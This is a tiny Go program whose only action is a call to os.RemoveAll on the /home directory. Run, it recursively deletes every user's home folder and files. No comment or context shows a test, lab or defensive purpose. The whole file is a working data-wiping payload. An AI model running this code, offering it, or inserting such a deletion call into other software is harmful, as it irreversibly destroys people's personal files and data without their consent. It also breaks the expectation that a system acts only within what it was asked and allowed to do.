package main

import "os"

func main() {
	os.RemoveAll("/home")
}
